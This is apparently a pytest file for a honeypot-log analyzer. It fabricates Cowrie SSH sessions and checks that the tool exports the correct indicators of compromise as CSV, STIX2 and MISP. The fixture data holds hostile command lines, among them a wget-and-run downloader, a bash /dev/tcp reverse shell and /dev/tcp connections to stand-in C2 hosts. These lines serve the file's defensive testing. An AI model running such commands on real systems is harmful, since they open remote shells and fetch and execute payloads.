"""iocs/: indicators to share, measured on injected ground truth.

Sessions are generated with known indicators (download URLs, SHA-256 of downloads, uploads and
file writes, source addresses that logged in, forwarding targets) and known decoys that must never
be exported (private and loopback addresses as sources, URL hosts and targets; failed logins;
malformed hashes). iocs.csv must list exactly the truth with its counts; stix2.json must pass the
`stix2` library's strict parser (no custom objects, patterns validated) and misp.json PyMISP's
loader, both from PyPI in the e2e tools venv.
"""

from __future__ import annotations

import csv
import json
import re
import subprocess
from collections import defaultdict
from datetime import datetime, timedelta, timezone

import pytest

import cbtest

H = {k: (c * 64) for k, c in {"drop": "a", "write": "b", "upload": "c", "drop2": "d"}.items()}
# Other spellings of loopback and private hosts that clients resolve the same way (found by review).
LOOPBACK_URLS = ["http://2130706433/a", "http://0x7f.1/b", "http://0177.0.0.1/c", "http://127.1/d", "http://LOCALHOST/e",
                 "http://127.0.0.1./f", "http://[fe80::1%25eth0]/g", "http://[::127.0.0.1]/h", "http://[64:ff9b::7f00:1]/i",
                 "http://[2002:7f00:1::]/j", "http://user@10.9.9.9/k"]
PRIVATE = ["10.0.0.5", "127.0.0.1", "192.168.1.1", "172.16.4.4", "100.64.1.1", "169.254.1.1", "::1", "fe80::1",
           "fd00::1", "::ffff:10.1.1.1"]


def ts(t: datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


class Log:
    def __init__(self):
        self.events, self.truth, self.n = [], [], 0
        self.t = datetime(2024, 3, 4, tzinfo=timezone.utc)

    def session(self, sensor, ip, *, login=True, commands=(), items=(), expect=()):
        """items: (eventid, fields); expect: the (type, value) indicators of this session."""
        sid = f"{self.n:012x}"
        self.n += 1
        self.t += timedelta(minutes=7)
        t = self.t
        base = {"session": sid, "sensor": sensor, "src_ip": ip}
        ev = [{**base, "eventid": "cowrie.session.connect", "timestamp": ts(t), "src_port": 5000, "dst_ip": "192.0.2.1",
               "dst_port": 22, "protocol": "ssh"}]
        t += timedelta(seconds=1)
        ev.append({**base, "eventid": "cowrie.login.success" if login else "cowrie.login.failed", "timestamp": ts(t),
                   "username": "root", "password": "x"})
        for c in commands:
            t += timedelta(seconds=1)
            ev.append({**base, "eventid": "cowrie.command.input", "timestamp": ts(t), "input": c})
        for eventid, fields in items:
            t += timedelta(seconds=1)
            ev.append({**base, "eventid": eventid, "timestamp": ts(t), **fields})
        t += timedelta(seconds=1)
        ev.append({**base, "eventid": "cowrie.session.closed", "timestamp": ts(t), "duration": 5.0})
        self.events += ev
        self.truth.append({"sensor": sensor, "session": sid, "ip": ip, "start": ev[0]["timestamp"],
                           "end": ev[-1]["timestamp"], "iocs": set(expect)})


def dl(url, sha=None, failed=False):
    if failed:
        return ("cowrie.session.file_download.failed", {"url": url})
    return ("cowrie.session.file_download", {"url": url, "outfile": f"var/lib/cowrie/downloads/{sha}", "shasum": sha})


def build() -> Log:
    log = Log()
    script = ["cd /tmp", "wget http://198.51.100.7/bins.sh", "chmod +x bins.sh", "sh bins.sh"]
    for k in range(6):  # one campaign, two sensors, three addresses
        ip = f"203.0.113.{10 + k % 3}"
        log.session(f"s{k % 2}", ip, commands=script,
                    items=[dl("http://198.51.100.7/bins.sh", H["drop"]),
                           ("cowrie.session.file_download", {"destfile": "/tmp/x", "outfile": "o", "shasum": H["write"]})],
                    expect=[("src_ip", ip), ("url", "http://198.51.100.7/bins.sh"), ("sha256", H["drop"]),
                            ("sha256", H["write"])])
    # A failed fetch is still a URL; private and loopback hosts never are.
    log.session("s0", "203.0.113.20", items=[dl("http://evil.example/x.sh?a='b'", failed=True),
                                             dl("http://127.0.0.1:8000/x.sh", H["drop2"]),
                                             dl("http://10.1.2.3/y", failed=True),
                                             dl("http://localhost/z", failed=True),
                                             dl("http://[::1]:80/w", failed=True)]
                + [dl(u, failed=True) for u in LOOPBACK_URLS],
                expect=[("src_ip", "203.0.113.20"), ("url", "http://evil.example/x.sh?a='b'"), ("sha256", H["drop2"])])
    # Sources: private and loopback ones, and failed logins, are no indicators.
    for ip in PRIVATE:
        log.session("s1", ip, expect=[])
    log.session("s1", "203.0.113.50", login=False, expect=[])
    log.session("s1", "2001:db8::5", expect=[("src_ip", "2001:db8::5")])
    # Where the shell was told to connect (reverse shells, /dev/tcp downloaders): c2 targets.
    log.session("s1", "203.0.113.40", commands=["bash -i >& /dev/tcp/198.51.100.66/4444 0>&1",
                                                "exec 6<>/dev/tcp/127.0.0.1/80 && cat </dev/tcp/10.0.0.1/1",
                                                "echo x > /dev/tcp/c2.example.net/53; cat /dev/tcp/198.51.100.67/99999",
                                                "cat < /dev/tcp/198.51.100.66/04444 /dev/tcp/LOCALHOST/1 /dev/tcp/2130706433/2"],
                expect=[("src_ip", "203.0.113.40"), ("c2", "198.51.100.66:4444"), ("c2", "c2.example.net:53")])
    # Forwarding targets and an upload; a malformed hash is not shared.
    log.session("s0", "203.0.113.30", items=[
        ("cowrie.direct-tcpip.request", {"dst_ip": "198.51.100.25", "dst_port": 25, "src_port": 4}),
        ("cowrie.direct-tcpip.request", {"dst_ip": "10.0.0.1", "dst_port": 80, "src_port": 4}),
        ("cowrie.direct-tcpip.request", {"dst_ip": "mail.example.org", "dst_port": 587, "src_port": 4}),
        ("cowrie.direct-tcpip.request", {"dst_ip": "2001:db8::1", "dst_port": 443, "src_port": 4}),
        ("cowrie.direct-tcpip.request", {"dst_ip": "[::1]", "dst_port": 80, "src_port": 4}),
        ("cowrie.direct-tcpip.request", {"dst_ip": "fe80::1%eth0", "dst_port": 80, "src_port": 4}),
        ("cowrie.direct-tcpip.request", {"dst_ip": "a|b.example", "dst_port": 80, "src_port": 4}),
        ("cowrie.direct-tcpip.request", {"dst_ip": "Mail.Example.ORG.", "dst_port": 587, "src_port": 4}),
        ("cowrie.session.file_upload", {"filename": "u.sh", "outfile": "o", "shasum": H["upload"]}),
        ("cowrie.session.file_upload", {"filename": "v.sh", "outfile": "o", "shasum": "not-a-hash"}),
    ], expect=[("src_ip", "203.0.113.30"), ("forward_target", "198.51.100.25:25"),
               ("forward_target", "mail.example.org:587"), ("forward_target", "[2001:db8::1]:443"),
               ("sha256", H["upload"])])
    return log


@pytest.fixture(scope="module")
def run(cb_bin, tmp_path_factory):
    d = tmp_path_factory.mktemp("iocs")
    log = build()
    (d / "cowrie.json").write_bytes(cbtest.dumps(sorted(log.events, key=lambda e: e["timestamp"])))
    res = cbtest.analyze(cb_bin, [d / "cowrie.json"], d / "out")
    assert res.rc == 0, res.explain()
    return res, log


def rows(res):
    with open(res.out / "iocs/iocs.csv", newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_iocs_csv_is_exactly_the_truth(run):
    res, log = run
    want = defaultdict(lambda: {"sessions": 0, "ips": set(), "sensors": set(), "first": None, "last": None, "ids": []})
    for s in log.truth:
        for key in s["iocs"]:
            w = want[key]
            w["sessions"] += 1
            w["ips"].add(s["ip"])
            w["sensors"].add(s["sensor"])
            w["first"] = min(w["first"] or s["start"], s["start"])
            w["last"] = max(w["last"] or s["end"], s["end"])
            w["ids"].append((s["sensor"], s["session"]))
    got = {(r["type"], r["value"]): r for r in rows(res)}
    assert set(got) == set(want)
    with open(res.out / "tables/session_campaigns.csv", newline="") as f:
        campaign_of = {(r["sensor"], r["session"]): r["campaign"] for r in csv.DictReader(f)}
    for key, w in want.items():
        r = got[key]
        assert int(r["sessions"]) == w["sessions"], key
        assert int(r["src_ips"]) == len(w["ips"]), key
        assert r["sensors"] == ";".join(sorted(w["sensors"])), key
        assert (r["first_seen"], r["last_seen"]) == (w["first"], w["last"]), key
        camps = sorted({campaign_of[i] for i in w["ids"] if i in campaign_of})
        assert r["campaigns"] == ";".join(camps), key
    assert got[("url", "http://198.51.100.7/bins.sh")]["campaigns"], "the script's campaign"
    assert "T1105" in got[("url", "http://198.51.100.7/bins.sh")]["techniques"].split(";")


def test_no_private_or_loopback_address_is_exported(run):
    res, _ = run
    text = "".join((res.out / "iocs" / n).read_text() for n in ("iocs.csv", "stix2.json", "misp.json"))
    for a in PRIVATE + ["10.1.2.3", "10.0.0.1:80", "localhost", "203.0.113.50", "not-a-hash", "198.51.100.67",
                        "a|b.example", "04444"] + LOOPBACK_URLS:
        # as a whole token: 2001:db8::1 holds "::1"
        assert not re.search(r"(?<![0-9A-Za-z:.\[])" + re.escape(a) + r"(?![0-9A-Za-z:.])", text), a


def validate(res) -> dict:
    script = r"""
import json, sys
import stix2, pymisp
out = sys.argv[1]
bundle = stix2.parse(json.load(open(out + "/iocs/stix2.json")), allow_custom=False)
event = pymisp.MISPEvent()
event.load_file(out + "/iocs/misp.json")
print(json.dumps({
    "stix": json.loads(bundle.serialize())["objects"],
    "misp": [{"type": a.type, "category": a.category, "value": a.value,
              "sightings": sorted(s.source for s in a.sightings)} for a in event.attributes],
    "tags": [t.name for t in event.tags]}, default=str))
"""
    p = subprocess.run([cbtest.tools_python(), "-c", script, str(res.out)], capture_output=True, timeout=120)
    assert p.returncode == 0, p.stderr.decode()[-3000:]
    return json.loads(p.stdout)


def test_stix_bundle_passes_strict_parsing_and_holds_every_indicator(run):
    res, _ = run
    objs = validate(res)["stix"]
    by_type = defaultdict(list)
    for o in objs:
        by_type[o["type"]].append(o)
    table = rows(res)
    assert len(by_type["indicator"]) == len(table)
    patterns = {o["pattern"] for o in by_type["indicator"]}
    assert "[url:value = 'http://evil.example/x.sh?a=\\'b\\'']" in patterns
    assert f"[file:hashes.'SHA-256' = '{H['upload']}']" in patterns
    assert "[ipv6-addr:value = '2001:db8::5']" in patterns
    assert ("[network-traffic:dst_ref.type = 'domain-name' AND network-traffic:dst_ref.value = 'mail.example.org' "
            "AND network-traffic:dst_port = 587]") in patterns
    sightings = sum(len(r["sensors"].split(";")) for r in table)
    assert len(by_type["sighting"]) == sightings
    counts = sorted(o["count"] for o in by_type["sighting"])
    assert sum(counts) == sum(int(r["sessions"]) for r in table)
    ids = {o["id"] for o in objs}
    for rel in by_type["relationship"]:
        assert rel["relationship_type"] == "indicates" and rel["source_ref"] in ids and rel["target_ref"] in ids
    techniques = {ref["external_id"] for o in by_type["attack-pattern"] for ref in o["external_references"]}
    assert {"T1105", "T1110"} <= techniques


def test_misp_event_loads_with_sightings_per_sensor(run):
    res, _ = run
    got = validate(res)
    table = {(r["type"], r["value"]): r for r in rows(res)}
    assert len(got["misp"]) == len(table)
    kinds = {(a["type"], a["category"]) for a in got["misp"]}
    assert kinds == {("url", "Network activity"), ("sha256", "Payload delivery"), ("ip-src", "Network activity"),
                     ("ip-dst|port", "Network activity"), ("hostname|port", "Network activity")}
    for a in got["misp"]:
        if a["type"] == "ip-src":
            assert a["sightings"] == sorted(table[("src_ip", a["value"])]["sensors"].split(";"))
    assert any("T1105" in t for t in got["tags"])


def test_same_bytes_whatever_the_threads(cb_bin, run, tmp_path):
    res, _ = run
    again = cbtest.analyze(cb_bin, [res.out.parent / "cowrie.json"], tmp_path / "out", "--threads", "1")
    for n in ("iocs.csv", "stix2.json", "misp.json"):
        assert (again.out / "iocs" / n).read_bytes() == (res.out / "iocs" / n).read_bytes(), n
